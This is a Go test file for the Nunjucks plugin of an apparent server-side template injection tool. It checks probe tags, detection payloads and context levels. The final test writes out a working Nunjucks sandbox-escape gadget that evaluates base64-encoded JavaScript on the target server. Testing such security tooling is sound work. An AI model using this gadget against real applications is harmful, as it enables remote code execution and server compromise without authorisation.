package javascript

import (
	"fmt"
	"strconv"
	"testing"

	"github.com/sstimap/sstimap-go/pkg/template"
)

func TestNewNunjucks_DeclaresAddHeaderType(t *testing.T) {
	t.Parallel()

	p := NewNunjucks()
	if p.HeaderType != "add" {
		t.Fatalf("expected header_type \"add\" (the template's '+' framing is arithmetic, not string concatenation), got %q", p.HeaderType)
	}
}

func TestNewNunjucks_HeaderTemplateEvaluatesToArithmeticTag(t *testing.T) {
	t.Parallel()

	p := NewNunjucks()
	headerTpl := p.Actions["render"].String("header")
	out := template.Format(headerTpl, template.Fields{"header": []int{1234, 5678}})
	if out != "{{1234+5678}}" {
		t.Fatalf("expected the compiled header template to read as a Nunjucks arithmetic tag, got %q", out)
	}
}

func TestNewNunjucks_TestRenderExpectedMatchesItsOwnProduct(t *testing.T) {
	t.Parallel()

	p := NewNunjucks()
	action := p.Actions["render"]
	expected := action.String("test_render_expected")
	if _, err := strconv.Atoi(expected); err != nil {
		t.Fatalf("expected test_render_expected to be a plain integer string, got %q", expected)
	}
	var r0, r1, r2 int
	if _, err := fmt.Sscanf(action.String("test_render"), "{{(%d,%d*%d)|dump}}", &r0, &r1, &r2); err != nil {
		t.Fatalf("could not parse test_render %q: %v", action.String("test_render"), err)
	}
	if expected != strconv.Itoa(r1*r2) {
		t.Fatalf("expected test_render_expected %q to equal %d*%d", expected, r1, r2)
	}
}

func TestNewNunjucks_ContextsRespectDeclaredLevels(t *testing.T) {
	t.Parallel()

	p := NewNunjucks()
	if len(p.Contexts) != 6 {
		t.Fatalf("expected 6 declared contexts, got %d", len(p.Contexts))
	}
	if p.Contexts[0].Level != 0 {
		t.Fatalf("expected the first context to be the bare level-0 context, got level %d", p.Contexts[0].Level)
	}
}

func TestNewNunjucks_EvaluateActionEmbedsRangeConstructorGadget(t *testing.T) {
	t.Parallel()

	p := NewNunjucks()
	tpl := p.Actions["evaluate"].String("evaluate")
	out := template.Format(tpl, template.Fields{"code_b64p": "QkFTRTY0"})
	if out != `{{range.constructor("return eval(Buffer('QkFTRTY0','base64').toString())")()}}` {
		t.Fatalf("unexpected evaluate gadget rendering: %q", out)
	}
}
